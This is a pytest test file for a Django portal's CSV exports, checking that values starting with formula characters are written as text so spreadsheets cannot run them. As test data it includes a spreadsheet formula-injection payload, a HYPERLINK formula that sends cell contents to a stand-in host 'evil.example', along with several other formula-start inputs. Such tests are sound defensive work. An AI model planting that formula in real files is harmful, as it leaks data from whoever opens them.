"""No CSV the portal writes lets a spreadsheet run a value someone typed or uploaded (issue 9, finding 2).

Each download (and the ``determine_qp`` command's file) is made with a value that starts with a
formula character where people outside CMS control it; the cell must come out as text (an
apostrophe first), and no cell of that column may start a formula.
"""

import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from accounts.models import OrganizationKind
from determinations.models import ParticipationUpload, QPDeterminationRun
from determinations.states import SubmissionStatus
from jobs import services as jobs
from qppportal.spreadsheets import SafeWriter, spreadsheet_text
from tests.factories import OrganizationFactory, SubmissionFactory
from tests.support import sign_in

pytestmark = pytest.mark.django_db

SAMPLE = Path(__file__).resolve().parents[2] / "docs" / "examples" / "qp_participation_sample.csv"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def rows_of(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def public_list(client, people):
    SubmissionFactory(
        member=people["payer"], name=HYPERLINK, state=SubmissionStatus.APPROVED, reviewer=people["reviewer"]
    )
    return rows_of(client.get(reverse("apms:list_csv"), {"year": 2027})), "arrangement", f"'{HYPERLINK}"


def review_queue(client, people):
    SubmissionFactory(member=people["payer"], name="+SUM(1,2)")
    sign_in(client, people["reviewer"])
    return rows_of(client.get(reverse("determinations:review_queue_export"))), "Arrangement", "'+SUM(1,2)"


def job_results(client, people):
    submission = SubmissionFactory(member=people["payer"], name="@SUM(1,2)", state=SubmissionStatus.IN_REVIEW)
    job = jobs.job_start(kind="recheck_year", parameters={"year": 2027}, queue=False)
    jobs.job_chunk_run(job_id=job.pk, chunk=0)
    sign_in(client, people["program_admin"])
    rows = rows_of(client.get(reverse("jobs:job_results", args=[job.pk])))
    assert [row["tracking_number"] for row in rows] == [submission.tracking_number]
    return rows, "arrangement", "'@SUM(1,2)"


def qp_upload(client, people, text: str) -> ParticipationUpload:
    sign_in(client, people["program_admin"])
    upload = SimpleUploadedFile("participation.csv", text.encode(), "text/csv")
    with people["worker"]():
        client.post(
            reverse("determinations:participation_upload"), {"performance_year": 2026, "snapshot": 1, "file": upload}
        )
    return ParticipationUpload.objects.latest("pk")


def qp_bad_rows(client, people):
    # The reason names the value as uploaded, quoted, so it never starts a formula of its own.
    upload = qp_upload(client, people, SAMPLE.read_text().replace("1000000020", "=1+2", 1))
    rows = rows_of(client.get(reverse("determinations:participation_upload_errors_csv", args=[upload.pk])))
    return rows, "reason", "'=1+2' is not an NPI: an NPI is ten digits"


def qp_results(client, people):
    OrganizationFactory(kind=OrganizationKind.APM_ENTITY, payer_type="", apm_entity_identifier="-A-DEMO-0001")
    qp_upload(client, people, SAMPLE.read_text().replace("A-DEMO-0001", "-A-DEMO-0001"))
    with people["worker"]():
        client.post(reverse("determinations:qp_run"), {"run-performance_year": 2026, "run-snapshot": 1})
    run = QPDeterminationRun.objects.get()
    return (
        rows_of(client.get(reverse("determinations:qp_run_results_csv", args=[run.pk]))),
        "apm_entity_id",
        "'-A-DEMO-0001",
    )


@pytest.fixture
def people(reference_data, clock, media, payer, reviewer, program_admin, django_capture_on_commit_callbacks):
    # "worker": the eager Celery worker runs what a request queued once its transaction commits.
    return {
        "payer": payer,
        "reviewer": reviewer,
        "program_admin": program_admin,
        "worker": lambda: django_capture_on_commit_callbacks(execute=True),
    }


@pytest.mark.parametrize("download", [public_list, review_queue, job_results, qp_bad_rows, qp_results])
def test_every_csv_download_writes_a_formula_as_text(client, people, download):
    rows, column, expected = download(client, people)

    cells = [row[column] for row in rows]
    assert expected in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_determine_qp_command_writes_a_formula_as_text(reference_data, tmp_path):
    source, output = tmp_path / "participation.csv", tmp_path / "results.csv"
    source.write_text(SAMPLE.read_text().replace("A-DEMO-0001", "=A-DEMO-0001"))

    call_command("determine_qp", year=2026, snapshot=1, input=str(source), output=str(output))

    entities = {row["apm_entity_id"] for row in csv.DictReader(io.StringIO(output.read_text()))}
    assert "'=A-DEMO-0001" in entities and "=A-DEMO-0001" not in entities


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),  # a tab-separated reading splits at the tab: both parts are text
        ("\r=1", "'\r=1"),
        ("Plain name", "Plain name"),
        (-5, "-5"),  # a number is never a formula
        (None, ""),
    ],
)
def test_a_cell_is_text_whenever_a_spreadsheet_would_run_it(value, cell):
    assert spreadsheet_text(value) == cell
    out = io.StringIO()
    SafeWriter(out).writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == cell


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_no_part_of_a_cell_is_a_formula_under_another_separator(separator):
    """A spreadsheet set up for semicolon (or tab) separated files splits an unquoted ``a;=1+2`` into
    ``a`` and the formula ``=1+2`` whatever the quoting; the part after the separator is text too."""
    value = f'Plan A{separator}=HYPERLINK("http://evil.example")'
    out = io.StringIO()
    SafeWriter(out).writerow(["Tracking", value, 12])
    for cell in next(csv.reader(io.StringIO(out.getvalue()), delimiter=separator)):
        assert not cell.startswith(("=", "+", "-", "@")), cell
